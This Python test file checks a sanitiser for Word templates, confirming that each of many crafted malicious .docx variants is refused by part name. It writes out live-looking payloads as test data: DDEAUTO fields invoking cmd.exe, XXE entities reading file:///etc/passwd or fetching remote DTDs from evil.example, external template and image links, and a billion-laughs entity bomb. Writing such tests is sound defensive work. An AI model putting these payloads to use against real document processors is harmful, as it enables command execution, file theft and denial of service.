"""What may stand in a template: each trick of a Word file is refused by the name of its part; what is harmless goes."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from PIL import Image

from mediator.docs.templates.package import unpacked
from mediator.docs.templates.parts import admitted, cleaned
from mediator.errors import Unacceptable
from tests.docs.foreign_words import (
    MAIN,
    RELATIONS,
    TYPES,
    TYPES_PART,
    a_part,
    a_word,
    changed,
    in_body,
    paragraph,
    part_text,
    related,
    typed,
    with_part,
    zipped,
)

BASE = a_word("今收到{{ payer }}。")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
SETTINGS = "word/settings.xml"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
R = f'xmlns:r="{OFFICE}/relationships"'
BEGIN, END = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def why(data: bytes) -> tuple[str, str]:
    """The part that is refused and what is wrong with it."""
    with pytest.raises(Unacceptable) as caught:
        admitted(data)
    assert caught.value.code == "template.package"
    return caught.value.where, str(caught.value.facts["fault"])


def field(code: str) -> str:
    """A field of Word."""
    return f"<w:p>{BEGIN}<w:r><w:instrText>{code}</w:instrText></w:r>{END}</w:p>"


def settings(xml: str) -> bytes:
    """The file with more in its settings."""
    return changed(BASE, {SETTINGS: part_text(BASE, SETTINGS).replace("<w:zoom", f"{xml}<w:zoom").encode()})


def headed(text: str) -> bytes:
    """The main part behind a document type."""
    head, mark, rest = part_text(BASE, MAIN).partition("?>")
    return changed(BASE, {MAIN: f"{head}{mark}{text}{rest}".encode()})


def encoded(name: str, *, declared: str = "") -> bytes:
    """The main part in another encoding."""
    text = part_text(BASE, MAIN).replace("UTF-8", declared or name)
    return changed(BASE, {MAIN: text.encode(name)})


def macro_main() -> bytes:
    """A main part that says it may hold macros."""
    kinds = part_text(BASE, TYPES_PART).replace(
        f"{TYPES}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    return changed(BASE, {TYPES_PART: kinds.encode()})


def picture(kind: str = "PNG", size: tuple[int, int] = (4, 4)) -> bytes:
    """A small picture."""
    buffer = io.BytesIO()
    Image.new("RGB", size).save(buffer, kind)
    return buffer.getvalue()


LAUGHS = "<!DOCTYPE w [" + "".join(f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};">' for n in range(1, 40)) + "]>"
TRICKS: dict[str, tuple[bytes, tuple[str, str]]] = {
    "macro": (with_part(BASE, "word/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject"),
              ("word/vbaProject.bin", "part")),
    "macro main": (macro_main(), (MAIN, "type")),
    "alt chunk": (in_body(BASE, f'<w:altChunk {R} r:id="rId1"/>'), (MAIN, "element")),
    "alt chunk part": (with_part(BASE, "word/chunk.html", b"<p/>", "text/html", relation="aFChunk"),
                       ("word/chunk.html", "part")),
    "object": (in_body(BASE, "<w:p><w:r><w:object/></w:r></w:p>"), (MAIN, "element")),
    "ole": (in_body(BASE, f'<w:p {VML}><w:r><w:pict><o:OLEObject Type="Link"/></w:pict></w:r></w:p>'),
            (MAIN, "element")),
    "ole part": (with_part(BASE, "word/embeddings/a.bin", b"x", "application/x-ole"),
                 ("word/embeddings/a.bin", "part")),
    "control": (in_body(BASE, "<w:p><w:r><w:control/></w:r></w:p>"), (MAIN, "element")),
    "sub document": (in_body(BASE, f'<w:subDoc {R} r:id="rId1"/>'), (MAIN, "element")),
    "form field": (in_body(BASE, '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData/></w:fldChar></w:r></w:p>'),
                   (MAIN, "element")),
    "data binding": (in_body(BASE, "<w:sdt><w:sdtPr><w:dataBinding/></w:sdtPr></w:sdt>"), (MAIN, "element")),
    "attached template": (settings(f'<w:attachedTemplate {R} r:id="rId1"/>'), (SETTINGS, "element")),
    "mail merge": (settings("<w:mailMerge/>"), (SETTINGS, "element")),
    "transform": (settings(f'<w:saveThroughXslt {R} r:id="rId1"/>'), (SETTINGS, "element")),
    "outside template": (changed(BASE, {"word/_rels/settings.xml.rels": related(
        BASE, "attachedTemplate", "http://evil.example/t.dotm", outside=True)}),
        ("word/_rels/settings.xml.rels", "external")),
    "outside picture": (changed(BASE, {RELATIONS: related(BASE, "image", "http://evil.example/a.png", outside=True)}),
                        (RELATIONS, "external")),
    "outside file": (changed(BASE, {RELATIONS: related(BASE, "hyperlink", "file:///etc/passwd", outside=True)}),
                     (RELATIONS, "external")),
    "outside share": (changed(BASE, {RELATIONS: related(BASE, "hyperlink", r"\\host\share", outside=True)}),
                      (RELATIONS, "external")),
    "linked vml": (in_body(BASE, f'<w:p {VML}><w:r><w:pict><v:imagedata src="http://evil.example/a"/></w:pict></w:r></w:p>'),
                   (MAIN, "element")),
    "drawing link": (in_body(BASE, '<w:p xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:r>'
                                   "<w:drawing><a:hlinkClick/></w:drawing></w:r></w:p>"), (MAIN, "element")),
    "dde": (in_body(BASE, field("DDEAUTO c:\\\\windows\\\\cmd.exe")), (MAIN, "field")),
    "include picture": (in_body(BASE, field("INCLUDEPICTURE http://evil.example/a.png")), (MAIN, "field")),
    "include text": (in_body(BASE, field("INCLUDETEXT c:/a.docx")), (MAIN, "field")),
    "split field": (in_body(BASE, f"<w:p>{BEGIN}<w:r><w:instrText>DDE</w:instrText></w:r>"
                                  f"<w:r><w:instrText>AUTO x</w:instrText></w:r>{END}</w:p>"), (MAIN, "field")),
    "field over paragraphs": (in_body(BASE, f"<w:p>{BEGIN}<w:r><w:instrText>INCLUDE</w:instrText></w:r></w:p>"
                                            f"<w:p><w:r><w:instrText>PICTURE x</w:instrText></w:r>{END}</w:p>"),
                              (MAIN, "field")),
    "simple field": (in_body(BASE, '<w:p><w:fldSimple w:instr="LINK Excel.Sheet"/></w:p>'), (MAIN, "field")),
    "custom xml": (with_part(BASE, "customXml/item1.xml", b"<a/>", "application/xml"), ("customXml/item1.xml", "part")),
    "comments": (with_part(BASE, "word/comments.xml", a_part("comments", paragraph("{{ a() }}")),
                           f"{TYPES}.comments+xml", relation="comments"), ("word/comments.xml", "part")),
    "revision": (in_body(BASE, '<w:p><w:ins w:id="1"><w:r><w:t>a</w:t></w:r></w:ins></w:p>'), (MAIN, "revision")),
    "embedded font": (with_part(BASE, "word/fonts/font1.odttf", b"x", "application/x-font"),
                      ("word/fonts/font1.odttf", "part")),
    "web settings outside": (changed(with_part(BASE, "word/webSettings.xml", a_part("webSettings"),
                                               f"{TYPES}.webSettings+xml"),
                                     {"word/_rels/webSettings.xml.rels": related(
                                         BASE, "frame", "http://evil.example", outside=True)}),
                             ("word/_rels/webSettings.xml.rels", "external")),
    "foreign space": (in_body(BASE, '<x xmlns="http://evil.example"/>'), (MAIN, "element")),
    "xxe file": (headed('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), (MAIN, "doctype")),
    "xxe http": (headed('<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">'), (MAIN, "doctype")),
    "xxe parameter": (headed('<!DOCTYPE w [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'), (MAIN, "doctype")),
    "billion laughs": (headed(LAUGHS), (MAIN, "doctype")),
    "utf-16": (encoded("utf-16"), (MAIN, "doctype")),
    "utf-16 big": (encoded("utf-16-be", declared="utf-16"), (MAIN, "doctype")),
    "utf-7": (encoded("utf-7"), (MAIN, "doctype")),
    "declared otherwise": (encoded("utf-8", declared="latin-1"), (MAIN, "doctype")),
    "no xml": (changed(BASE, {MAIN: b"<w:document"}), (MAIN, "xml")),
    "unknown entity": (in_body(BASE, "<w:p>&x;</w:p>"), (MAIN, "xml")),
    "fake picture": (with_part(BASE, "word/media/a.png", b"MZ", "image/png"), ("word/media/a.png", "picture")),
    "picture of another kind": (with_part(BASE, "word/media/a.png", picture("JPEG"), "image/png"),
                                ("word/media/a.png", "picture")),
    "huge picture": (zipped({**unpacked(BASE), "word/media/a.png": picture(size=(60_000, 900)),
                             TYPES_PART: typed(BASE, "word/media/a.png", "image/png")}, method=zipfile.ZIP_STORED),
                     ("word/media/a.png", "picture")),
    "metafile": (with_part(BASE, "word/media/a.emf", b"x", "image/x-emf"), ("word/media/a.emf", "part")),
    "no word": (zipped({"a.xml": b"<a/>"}), ("", "word")),
}  # fmt: skip


@pytest.mark.threat("T36")
@pytest.mark.threat("T35")
@pytest.mark.parametrize("trick", sorted(TRICKS))
def test_each_trick_is_refused_with_the_name_of_its_part(trick: str) -> None:
    data, expected = TRICKS[trick]
    assert why(data) == expected


@pytest.mark.threat("T36")
@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("docProps/app.xml", b"<a/>", "application/vnd.openxmlformats-officedocument.extended-properties+xml"),
        ("docProps/custom.xml", b"<a/>", "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
        ("word/webSettings.xml", a_part("webSettings"), f"{TYPES}.webSettings+xml"),
        ("customXml/item1.xml", b'<s:customData xmlns:s="http://www.wps.cn/officeDocument/2013/wpsCustomData"/>',
         "application/xml"),
    ],
)  # fmt: skip
def test_what_word_and_wps_add_of_themselves_is_left_out(name: str, content: bytes, kind: str) -> None:
    assert admitted(with_part(BASE, name, content, kind)) == admitted(BASE)


def test_files_of_other_programs_are_let_in() -> None:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    assert MAIN in admitted(buffer.getvalue())


@pytest.mark.threat("T36")
def test_a_web_link_becomes_its_text_and_its_relation_goes() -> None:
    linked = in_body(BASE, f'<w:p><w:hyperlink {R} r:id="rId99"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>')
    parts = admitted(changed(linked, {RELATIONS: related(BASE, "hyperlink", "https://county.example/", outside=True)}))
    assert "网站".encode() in parts[MAIN]
    assert b"hyperlink" not in parts[MAIN] + parts[RELATIONS]


def test_page_numbers_and_pictures_stay() -> None:
    data = with_part(in_body(BASE, field("NUMPAGES \\* MERGEFORMAT")), "word/media/a.png", picture(), "image/png")
    assert {"word/media/a.png", MAIN} <= set(admitted(data))


def test_what_is_kept_is_the_same_bytes_each_time() -> None:
    once = cleaned(BASE)
    assert cleaned(BASE) == once == cleaned(once)


def test_remarks_and_processing_instructions_are_dropped() -> None:
    assert admitted(in_body(BASE, "<!-- {{ a() }} --><?x y?>")) == admitted(BASE)


def test_a_type_that_is_given_by_ending_alone_does_not_let_a_part_in() -> None:
    kinds = typed(BASE, "word/other.xml", f"{TYPES}.styles+xml").replace(b"/word/styles.xml", b"/word/gone.xml")
    assert why(changed(BASE, {TYPES_PART: kinds})) == ("word/styles.xml", "type")
